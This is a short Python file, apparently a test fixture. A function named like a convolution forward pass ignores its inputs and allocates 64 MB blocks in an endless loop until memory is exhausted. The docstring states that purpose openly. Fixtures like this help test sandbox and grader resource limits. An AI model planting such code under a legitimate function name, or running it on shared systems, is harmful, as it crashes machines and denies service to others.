"""Allocates and touches memory until something stops it."""


def conv_forward_naive(x, w=None, b=None, conv_param=None):
    hoard = []
    while True:
        hoard.append(bytearray(64 << 20))
